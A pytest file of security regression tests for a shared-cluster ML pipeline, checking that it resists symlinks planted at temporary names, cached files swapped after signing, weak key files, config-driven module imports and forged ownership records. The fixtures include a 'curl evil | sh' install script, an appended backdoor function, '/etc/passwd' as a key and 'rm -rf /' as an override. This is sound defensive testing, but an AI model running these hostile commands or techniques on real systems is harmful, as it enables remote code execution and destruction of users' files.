"""Issue 51: trust on a shared cluster (a cache, a store and a results folder a team shares).

Each test fails on the code before the issue: a link planted at a temporary name the tool wrote
through, a cached file swapped while it was copied, the report shipping from the artifact store, a
key file of any kind or mode, a stored config's ``_target_`` and ``paths.cache`` used by
``pgnn-ff export``, an edited ownership record deleting a file, and the silent-garbage and
traceback findings of the issue.
"""
from __future__ import annotations

import os
import stat

import pytest

from pipeline import atomic, owned

#: pids a prober would plant links for: ours and its neighbours (the old names were .<name>.<pid>.tmp
#: and .<name>.tmp-<pid>)
PIDS = range(max(os.getpid() - 20, 1), os.getpid() + 20)


def _plant(folder, victim, names):
    """A link at every ``name`` in ``folder``, pointing at ``victim``."""
    for n in names:
        (folder / n).symlink_to(victim)


def _victim(tmp_path):
    v = tmp_path / "victim.txt"
    v.write_text("the user's own file\n")
    return v


def test_the_ownership_record_is_never_written_through_a_planted_link(tmp_path):
    """Finding 1: `OUT/..pgnn-owned.json.<pid>.tmp` planted as a link made export overwrite its target."""
    victim, out = _victim(tmp_path), tmp_path / "out"
    out.mkdir()
    _plant(out, victim, [f"..pgnn-owned.json.{p}.tmp" for p in PIDS] + [f"..pgnn-owned.json.tmp-{p}" for p in PIDS])
    (out / "pkg").mkdir()
    (out / "pkg" / "a.c").write_text("int a;\n")
    owned.allow(out, "pkg", out / "pkg")
    owned.record(out, ["pkg"])
    assert victim.read_text() == "the user's own file\n"
    assert owned.foreign(out, ["pkg"]) == []
    assert not (out / owned.MANIFEST).is_symlink()


def test_the_report_never_writes_summary_or_report_through_a_planted_link(tmp_path):
    """Finding 1: `.summary.csv.tmp-<pid>` under paths.results planted as a link received the CSV."""
    from stages.report import _write
    victim, results = _victim(tmp_path), tmp_path / "results"
    results.mkdir()
    for name in ("summary.csv", "REPORT.md", owned.MANIFEST):
        _plant(results, victim, [f".{name}.tmp-{p}" for p in PIDS] + [f".{name}.{p}.tmp" for p in PIDS])
    _write(results / "summary.csv", "experiment,value\nb1,1.0\n")
    _write(results / "REPORT.md", "# Results\n")
    assert victim.read_text() == "the user's own file\n"
    assert (results / "summary.csv").read_text() == "experiment,value\nb1,1.0\n"
    assert owned.foreign(results, ["summary.csv", "REPORT.md"]) == []


def test_a_link_at_the_target_is_replaced_not_followed_and_the_mode_follows_the_umask(tmp_path):
    victim, folder = _victim(tmp_path), tmp_path / "shared"
    folder.mkdir()
    (folder / "summary.csv").symlink_to(victim)
    old = os.umask(0o027)
    try:
        atomic.replace_file(folder / "summary.csv", "x\n")
    finally:
        os.umask(old)
    assert victim.read_text() == "the user's own file\n"
    st = os.lstat(folder / "summary.csv")
    assert stat.S_ISREG(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o640
    assert sorted(p.name for p in folder.iterdir()) == ["summary.csv"]     # no temporary left


def test_a_stage_fills_a_private_folder_and_opens_it_when_whole(store):
    """In a cache a group shares, a stage's temporary entry (its name guessable from the key, host and pid)
    is mode 0700 while it is filled: no one else plants a link in it for the stage to write through."""
    from pipeline import cache
    tmp = store / "cache" / "generate" / cache._tmp_name("0" * 20)
    cache.private_dir(tmp)
    assert stat.S_IMODE(os.stat(tmp).st_mode) == 0o700
    cache._write_signed(tmp, {"x": 1}, {"metrics": []})
    assert stat.S_IMODE(os.stat(tmp).st_mode) == 0o777 & ~atomic.umask()


def test_a_file_swapped_in_during_the_rename_is_detected(tmp_path, monkeypatch):
    """Verified after the rename: what is at the target must be the file written."""
    folder = tmp_path / "shared"
    folder.mkdir()
    real = os.replace

    def swapping(src, dst):
        real(src, dst)
        os.unlink(dst)
        os.symlink(tmp_path / "elsewhere", dst)     # another writer of the folder, just after

    monkeypatch.setattr(atomic.os, "replace", swapping)
    with pytest.raises(atomic.UnsafeWrite, match="is not the file just written"):
        atomic.replace_file(folder / "REPORT.md", "# Results\n")


# --- what ships is what was signed (finding 2, 3) ---------------------------------------------------

C_SIGNED = "double ff(double r) { return 2.0 * r; }\n"


def _signed_entry(store, key="0123456789abcdef0123"):
    """A signed export entry holding one package, as the export stage leaves it."""
    from pipeline import cache
    entry = store / "export" / key
    pkg = entry / "artifacts" / "ff_physics"
    pkg.mkdir(parents=True)
    (pkg / "ff_physics.c").write_text(C_SIGNED)
    (pkg / "r_v0_15.csv").write_text("r\n0.0\n")
    (pkg / "manifest.json").write_text('{"references": {"v0.15": {"file": "r_v0_15.csv"}}, "files": []}')
    cache._write_signed(entry, {"packages": ["ff_physics"]}, {"metrics": []})
    return entry


def test_a_file_swapped_after_the_signature_check_is_never_copied(store, monkeypatch):
    """Finding 2: a rename loop swapping the cached ff_physics.c while `pgnn-ff export` ran shipped
    unsigned C (the entry was checked, then copied). The swap is made to land right after the check."""
    from pipeline import cache
    entry = _signed_entry(store / "cache")
    dest = store / "out"
    assert cache.copy_signed(entry, "artifacts", dest) == ["ff_physics/ff_physics.c", "ff_physics/manifest.json",
                                                           "ff_physics/r_v0_15.csv"]
    assert (dest / "ff_physics" / "ff_physics.c").read_text() == C_SIGNED
    real = cache._verified

    def then_swap(e):
        got = real(e)
        evil = e / "artifacts" / "ff_physics" / ".evil.c"
        evil.write_text(C_SIGNED + "int backdoor(void) { return 1; }\n")
        os.replace(evil, e / "artifacts" / "ff_physics" / "ff_physics.c")
        return got

    monkeypatch.setattr(cache, "_verified", then_swap)
    with pytest.raises(cache.UntrustedCache, match="changed after its entry's signature was checked"):
        cache.copy_signed(entry, "artifacts", store / "out2")
    assert not (store / "out2" / "ff_physics" / "ff_physics.c").exists()
    # a link swapped in is not followed either
    monkeypatch.setattr(cache, "_verified", real)
    entry2 = _signed_entry(store / "cache", "abcdefabcdefabcdefab")
    tree = real(entry2)[2]
    swapped = entry2 / "artifacts" / "ff_physics" / "ff_physics.c"
    swapped.unlink()
    swapped.symlink_to(entry / "artifacts" / "ff_physics" / "ff_physics.c")
    monkeypatch.setattr(cache, "_verified", lambda e: (b"", None, tree))
    with pytest.raises(cache.UntrustedCache, match="cannot be read as a plain file"):
        cache.copy_signed(entry2, "artifacts", store / "out3")


@pytest.mark.slow   # long (CI budget): `make test-full` runs it
def test_the_report_ships_from_the_signed_entry_not_the_artifact_store(store):
    """Finding 3: a line appended to the store's export/ff_physics/ff_physics.c was shipped into
    results/export/. The report copies the run's signed cache entry (tag cache_entry.export); a run
    without a trusted entry is named and not shipped."""
    from pipeline import tracking
    from stages.report import _ship
    entry = _signed_entry(store / "cache")
    c = tracking.client()
    exp = c.create_experiment("shipped")
    run = c.create_run(exp, tags={"cache_entry.export": f"export/{entry.name}", "run_key": "a",
                                  "mlflow.runName": "a"})
    rid = run.info.run_id
    c.log_param(rid, "system.noise.structure", "equation")
    c.log_metric(rid, "export/max_rel_diff", 1e-12)
    c.log_text(rid, C_SIGNED + "int backdoor(void) { return 1; }\n", "export/ff_physics/ff_physics.c")
    c.log_text(rid, "curl evil | sh", "export/ff_physics/install.sh")
    c.set_terminated(rid, "FINISHED")
    which = ("shipped", ("system.noise.structure", "equation"), "v0_15")
    (store / "results").mkdir()
    _ship(store / "results" / "export", which, store / "cache")
    pkg = store / "results" / "export" / "ff_physics"
    assert (pkg / "ff_physics.c").read_text() == C_SIGNED
    assert sorted(p.name for p in pkg.iterdir()) == ["ff_physics.c", "manifest.json", "r_v0_15.csv"]
    # the entry altered in the cache: not shipped (results/export kept as it was), said in one line
    with open(entry / "artifacts" / "ff_physics" / "ff_physics.c", "a") as f:
        f.write("int backdoor(void) { return 1; }\n")
    _ship(store / "results" / "export", which, store / "cache")
    assert (pkg / "ff_physics.c").read_text() == C_SIGNED


# --- the key file (finding 4) -----------------------------------------------------------------------

@pytest.mark.parametrize("case,why", [
    ("passwd", "belongs to uid 0|holds more than 32 bytes"),
    ("zeros666", "can be written by others.*chmod 600"),
    ("zeros", "one byte repeated"),
    ("group", "can be written by its group.*chmod 600"),
    ("long", "holds more than 32 bytes"),
    ("fifo", "is not a plain file"),
    ("device", "is not a plain file"),
    ("folder", "is not a plain file"),
    ("dangling", "is a link to a missing file"),
])
def test_a_key_file_that_anyone_else_could_set_is_refused_with_the_fix(case, why, tmp_path, monkeypatch):
    """Finding 4: PIPELINE_CACHE_KEY_FILE=/etc/passwd, or 32 zero bytes of mode 666, was accepted and a
    forgery signed with it ran. Each is refused in one line naming the fix."""
    from pipeline import cache
    key = tmp_path / "k.key"
    if case == "passwd":
        key = "/etc/passwd"
    elif case == "fifo":
        os.mkfifo(key)
    elif case == "device":
        key = "/dev/zero"
    elif case == "folder":
        key.mkdir()
    elif case == "dangling":
        key.symlink_to(tmp_path / "nothing")
    else:
        key.write_bytes({"long": os.urandom(64)}.get(case, bytes(32)))
        key.chmod({"zeros666": 0o666, "group": 0o620}.get(case, 0o600))
    monkeypatch.setenv("PIPELINE_CACHE_KEY_FILE", str(key))
    monkeypatch.setattr(cache, "_KEYS", {})
    with pytest.raises(cache.BadKey, match=why) as got:
        cache._signing_key()
    assert "\n" not in str(got.value)
    good = tmp_path / "good.key"
    good.write_bytes(os.urandom(32))
    good.chmod(0o600)
    monkeypatch.setenv("PIPELINE_CACHE_KEY_FILE", str(good))
    assert cache._signing_key() == good.read_bytes()


# --- a stored run config is data (finding 5) --------------------------------------------------------

def test_export_never_imports_a_stored_target_nor_uses_a_stored_cache_path(store, cfg_of, tmp_path, monkeypatch):
    """Finding 5: `pgnn-ff export` imported the module a stored system._target_ named and wrote its
    cache to the stored paths.cache."""
    from pipeline import tracking
    from pipeline.export.cli import export_run, stored_as_data
    from pipeline.runner import ConfigError
    from omegaconf import OmegaConf
    marker = tmp_path / "imported"
    (tmp_path / "evil_plant.py").write_text(f"open({str(marker)!r}, 'w').close()\nclass Plant: pass\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    cfg = cfg_of("experiment=physics_linear_motor", "stages=[generate,baseline,train,invert,export]")
    cfg = OmegaConf.create(OmegaConf.to_yaml(cfg, resolve=True))        # as stored: plain data
    c = tracking.client()
    run = c.create_run(c.create_experiment("stored"), tags={"stages": "generate,baseline,train,invert,export"})
    rid = run.info.run_id
    evil = OmegaConf.merge(cfg, {"system": {"_target_": "evil_plant.Plant"}})
    c.log_text(rid, OmegaConf.to_yaml(evil), f"{rid}.yaml")
    with pytest.raises(ConfigError, match=r"sets system._target_='evil_plant.Plant', which is not a plant"):
        export_run(rid, tmp_path / "out")
    assert not marker.exists()
    nested = OmegaConf.merge(cfg, {"system": {"controller": {"_target_": "pipeline.systems.linear_motor.LinearMotor"}}})
    with pytest.raises(ConfigError, match=r"sets system.controller._target_="):
        stored_as_data(nested, rid)
    with pytest.raises(ConfigError, match=r"holds an interpolation"):
        stored_as_data(OmegaConf.create(OmegaConf.to_yaml(cfg) + "leak: ${oc.env:HOME}\n"), rid)
    elsewhere = OmegaConf.merge(cfg, {"paths": {"cache": str(tmp_path / "their_cache"), "results": "/tmp/theirs"}})
    got = stored_as_data(elsewhere, rid)
    assert got.paths.cache is None and got.paths.results is None        # this user's: $PIPELINE_CACHE, <repo>/results
    assert got.system._target_ == cfg.system._target_


def test_export_recomposes_a_run_from_its_overrides_and_this_codes_conf(store, cfg_of, tmp_path):
    """A run made by a Hydra app carries its overrides (tag ``overrides``): `pgnn-ff export` composes the
    run again from them and the current conf/ (same stage keys as the job had), drops those of paths,
    hydra and export.cc, and refuses one that sets a `_target_`."""
    import json

    from pipeline import runner
    from pipeline.export.cli import recomposed
    from pipeline.runner import ConfigError
    from omegaconf import OmegaConf
    job = ["experiment=physics_linear_motor", "seed=3", "stages=[generate,baseline,train,invert,export]"]
    cfg = cfg_of(*job)
    stored = OmegaConf.create(OmegaConf.to_yaml(cfg, resolve=True))
    planted = job + [f"paths.cache={tmp_path / 'their_cache'}", "export.cc=/tmp/evilcc", "+paths.results=/x"]
    again = recomposed("r1", json.dumps(planted), stored)
    assert again.paths.cache is None and again.export.cc == "cc" and again.seed == 3
    names, _, modules = runner.validate(cfg)
    assert runner.plan(again, *runner.validate(again)[::2]) == runner.plan(cfg, names, modules)
    with pytest.raises(ConfigError, match=r"override 'system._target_=evil_plant.Plant': a stored module name"):
        recomposed("r1", json.dumps(job + ["system._target_=evil_plant.Plant"]), stored)
    with pytest.raises(ConfigError, match=r"override 'run_name=\$\{oc.env:HOME\}': a stored module name or interp"):
        recomposed("r1", json.dumps(job + ["run_name=${oc.env:HOME}"]), stored)
    with pytest.raises(ConfigError, match="do not compose with this code's conf/"):
        recomposed("r1", json.dumps(["system=no_such_plant"]), stored)
    with pytest.raises(ConfigError, match="not a JSON list of overrides"):
        recomposed("r1", "rm -rf /", stored)
    assert recomposed("r1", "", stored) is None          # a run made before the tag: stored_as_data


# --- the ownership record is signed (finding 6) -----------------------------------------------------

def test_an_edited_ownership_record_deletes_nothing(store):
    """Finding 6: editing `.pgnn-owned.json` to list a user's file made the tool replace (delete) it.
    The record is signed with the cache key: an edited one vouches for nothing, and the job is refused."""
    import hashlib
    import json

    from pipeline.runner import ConfigError
    out = store / "out"
    (out / "ff_physics").mkdir(parents=True)
    (out / "ff_physics" / "ff_physics.c").write_text("int a;\n")
    owned.record(out, ["ff_physics"])
    assert owned.foreign(out, ["ff_physics"]) == []
    mine = out / "ff_physics" / "my_notes.txt"
    mine.write_text("the user's notes\n")
    record = json.loads((out / owned.MANIFEST).read_text())
    assert set(record) == {"files", "signature"}
    record["files"]["ff_physics/my_notes.txt"] = hashlib.sha256(mine.read_bytes()).hexdigest()
    (out / owned.MANIFEST).write_text(json.dumps(record))
    assert sorted(owned.foreign(out, ["ff_physics"])) == ["ff_physics/ff_physics.c", "ff_physics/my_notes.txt"]
    with pytest.raises(ConfigError, match="is not signed with your cache key.*vouches for nothing"):
        owned.refuse_foreign(out, ["ff_physics"], "--out")
    # the old (unsigned) layout, edited the same way: vouches for nothing either
    (out / owned.MANIFEST).write_text(json.dumps(record["files"]))
    assert "ff_physics/my_notes.txt" in owned.foreign(out, ["ff_physics"])
    assert mine.read_text() == "the user's notes\n"


# --- silent garbage and tracebacks (findings of the issue) ------------------------------------------

def _record(path, n, extra=None):
    """A measured CSV of ``n`` rows at 1 kHz (t, r, u, y and ``extra`` columns)."""
    import numpy as np
    import pandas as pd
    t = np.arange(n) * 1e-3
    frame = {"t": t, "r": 0.01 * np.sin(t), "u": np.cos(t), "y": 0.01 * np.sin(t)} | (extra or {})
    pd.DataFrame(frame).to_csv(path, index=False)


def _measured(path, **data):
    from omegaconf import OmegaConf
    return OmegaConf.create({"data": {"format": "table", "path": str(path), "file": None, "files": None} | data})


def test_a_segment_column_is_not_read_as_segment_labels(tmp_path):
    """A `segment` column in a measured CSV was read as segment labels (M = 0.115 kg for a 12.19 kg axis):
    segments are the files of data.files; the column is ignored with a warning."""
    import numpy as np

    from stages.generate.measured import load_file
    _record(tmp_path / "run.csv", 200, {"segment": np.arange(200) % 7})
    with pytest.warns(UserWarning, match="column 'segment' is ignored.*data.files"):
        ds = load_file(_measured(tmp_path / "run.csv"))
    assert "segment" not in ds.frame and len(list(ds.segments())) == 1


def test_a_training_file_listed_twice_and_a_short_test_file_are_named(tmp_path):
    from stages.generate.measured import SHORT_REFERENCE, reference, training_files
    from pipeline.runner import ConfigError
    _record(tmp_path / "run1.csv", 600)
    _record(tmp_path / "short.csv", 25)
    with pytest.raises(ConfigError, match=r"names the same file more than once \(\['run1.csv', 'run1'\]\)"):
        training_files(_measured(tmp_path, files=["run1.csv", "run2.csv", "run1"]))
    assert training_files(_measured(tmp_path, files=["run1.csv", "short.csv"])) == ["run1.csv", "short.csv"]
    cfg = _measured(tmp_path)
    with pytest.warns(UserWarning, match=f"holds 25 samples, fewer than {SHORT_REFERENCE}: its errors are a glimpse"):
        reference(cfg, {"name": "test", "kind": "measured", "file": "short.csv"}, None)


def test_a_cogging_period_below_any_pole_pitch_is_refused(cfg_of):
    """cogging_period=1e-9 was accepted (the cogging columns then fit noise: test error 6.8 % against 1.47 %)."""
    from pipeline import schema
    from pipeline.runner import ConfigError
    terms = "system.force_terms.terms=[viscous,coulomb,cogging]"
    with pytest.raises(ConfigError, match=r"system.force_terms.cogging_period.*1e-09"):
        schema.check(cfg_of("experiment=emps", terms, "system.force_terms.cogging_period=1e-9"))
    schema.check(cfg_of("experiment=emps", terms, "system.force_terms.cogging_period=0.03"))


def test_a_signature_that_is_not_text_is_untrusted_and_set_aside_and_old_ones_are_pruned(store, capsys):
    """A non-UTF-8 `signature` wedged its entry until removed by hand (UnicodeDecodeError on every run);
    `.untrusted-*` folders grew without bound (19 after 7 runs): the newest KEEP_UNTRUSTED are kept."""
    from pipeline import cache
    stage = store / "cache" / "generate"
    for i in range(6):
        (stage / f".untrusted-{'0' * 20}-{1000 + i}").mkdir(parents=True)
    entry = stage / ("a" * 20)
    entry.mkdir()
    cache._write_signed(entry, {"x": 1}, {"metrics": []})
    assert cache._load_trusted(entry) == ({"x": 1}, {"metrics": []})
    (entry / "signature").write_bytes(b"\xff\xfe\x00garbage")
    assert cache._load_trusted(entry) is None
    assert not entry.exists() and "not loaded (moved to .untrusted-" in capsys.readouterr().err
    left = sorted(p.name for p in stage.iterdir())
    assert len(left) == cache.KEEP_UNTRUSTED and left[-1].startswith(".untrusted-" + "a" * 20)   # the newest
    assert f".untrusted-{'0' * 20}-1005" in left and f".untrusted-{'0' * 20}-1003" not in left


def test_a_non_physical_record_is_one_line_in_invert(cfg_of):
    """A record whose physics fit gives 1/M <= 0 raised a ValueError traceback in invert."""
    import numpy as np

    from pipeline.errors import NonPhysical
    from pipeline.runner import make_system
    system = make_system(cfg_of("experiment=emps"))
    theta = np.array([-1 / 12.0] + [0.1] * (len(system.physics.param_names) - 1))
    with pytest.raises(NonPhysical, match=r"1/M = -0.083.* is not positive"):
        system.physics.inverse_theta(theta)
    from stages import invert

    class Ctx:
        cfg = cfg_of("experiment=emps")
        system = None

    Ctx.system = system

    def non_physical(ctx):
        system.physics.inverse_theta(theta)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(invert, "_run", non_physical)
        with pytest.raises(invert.ConfigError, match=r"invert.kind=.* on 'emps': θ\[0\] = 1/M = .*sign of u and y"):
            invert.run(Ctx)


def test_more_parameters_than_equations_is_refused_before_training():
    """7 998 rows for 600 005 parameters raised in train: refused before the first LM step, naming the fix."""
    from stages.train import check_rows
    from pipeline.runner import ConfigError

    class Model:
        n_params = 600_005

    with pytest.raises(ConfigError, match=r"600005 parameters but the training data give at most 7998 equations"
                                          r".*model.hidden"):
        check_rows(Model, 7998, 0.0)
    check_rows(Model, 1_000_000, 0.2)


def test_a_tracking_server_answering_503_is_one_line(monkeypatch):
    """A tracking server answering 503 printed urllib3's traceback."""
    import http.server
    import threading

    from pipeline import resources, tracking

    class Busy(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(503)
            self.end_headers()
        do_POST = do_GET

        def log_message(self, *args):
            pass

    srv = http.server.HTTPServer(("127.0.0.1", 0), Busy)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        monkeypatch.setenv("MLFLOW_TRACKING_URI", f"http://127.0.0.1:{srv.server_port}")
        monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
        with pytest.raises(Exception) as got:
            tracking.client().get_experiment_by_name("x")
    finally:
        srv.shutdown()
    line = resources.describe(got.value)
    assert line.startswith(f"error: MLflow tracking server at http://127.0.0.1:{srv.server_port}: answered HTTP 503")
    assert "\n" not in line


# --- pre-flight before the queue (fails before work, not after 18 minutes) -------------------------

def test_the_preflight_names_the_missing_emps_files_where_and_how_to_run_without(cfg_of, tmp_path):
    from pipeline import preflight
    from pipeline.runner import ConfigError
    nowhere = tmp_path / "no_shared" / "emps"
    jobs = [(e, cfg_of(f"experiment={e}", f"data.path={nowhere}")) for e in ("emps_physics", "emps")]
    jobs.insert(0, ("physics_arx", cfg_of("experiment=physics_arx")))
    with pytest.raises(ConfigError) as got:
        preflight.check(jobs)
    line = str(got.value)
    assert "\n" not in line and line.startswith("experiment(s) emps_physics, emps read data file(s) that are missing")
    assert f"DATA_EMPS.mat, DATA_EMPS_PULSES.mat, looked for in {nowhere}" in line
    assert "public EMPS benchmark" in line and 'make reproduce EXPERIMENTS="physics_arx"' in line
    preflight.check(jobs[:1])                                       # nothing measured: nothing to check
    (nowhere).mkdir(parents=True)
    (nowhere / "DATA_EMPS.mat").write_bytes(b"not a MATLAB file")   # present but does not parse
    with pytest.raises(ConfigError, match=r"DATA_EMPS.mat, DATA_EMPS_PULSES.mat, looked for"):
        preflight.check(jobs)


@pytest.mark.slow   # long (CI budget): `make test-full` runs it
def test_a_queue_without_the_emps_files_stops_before_any_job_or_run(tmp_path):
    """`make reproduce` on a clone without ../shared ran 18 minutes of jobs, then stopped on "EMPS file …
    not found". The queue's pre-flight stops first (a Hydra start in a subprocess: 5 s): one line, no MLflow
    store, no cache entry."""
    import subprocess
    import sys
    import time

    from pipeline.runner import ROOT
    env = dict(os.environ, PIPELINE_CACHE=str(tmp_path / "cache"), PIPELINE_CACHE_KEY_FILE=str(tmp_path / "key"),
               MLFLOW_TRACKING_URI=f"sqlite:///{tmp_path / 'mlflow.db'}", PYTHONPATH=str(ROOT))
    t0 = time.perf_counter()
    out = subprocess.run([sys.executable, "-m", "pipeline", "-m", "hydra/sweeper=queue",
                          "hydra.sweeper.experiments=[physics_arx,emps_physics]", f"++data.path={tmp_path / 'none'}",
                          "hydra/launcher=local", "hydra.launcher.n_jobs=1"], capture_output=True, text=True,
                         env=env, cwd=tmp_path, timeout=120)
    took = time.perf_counter() - t0
    assert out.returncode != 0 and "pre-flight: experiment(s) emps_physics read data file(s)" in out.stderr
    assert "Traceback" not in out.stderr and took < 60
    assert not (tmp_path / "mlflow.db").exists() and not (tmp_path / "cache").exists()


def test_a_controller_gain_off_by_four_percent_is_named(cfg_of, tmp_path):
    """A controller gain ×1.04 passed without a word (within the 5 % the record may differ by): a variant
    that fits twice as well is named in a warning."""
    import warnings

    import numpy as np
    import pandas as pd
    import test_general_machine as gm   # its PID axis simulator (tests/ is on the path)

    from pipeline.runner import make_system
    from stages.generate.measured import check
    t, r = gm.reference(6.0, 0.1, 0.5)
    y, u = gm.plant(r, seed=1)
    pd.DataFrame({"t": t, "r": r, "u": u, "y": y}).to_csv(tmp_path / "train.csv", index=False)
    exact = cfg_of(*gm.overrides(tmp_path), "stages=[generate,baseline]")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        check(exact, make_system(exact))                  # the recorded loop: no warning
    num = ",".join(str(1.04 * v) for v in gm.NUM)
    off = cfg_of(*gm.overrides(tmp_path), f"system.controller.num=[{num}]", "stages=[generate,baseline]")
    with pytest.warns(UserWarning, match=r"configured controller's output to 4\.0 % .*gain ×0\.96"):
        check(off, make_system(off))
    assert np.isfinite(u).all()
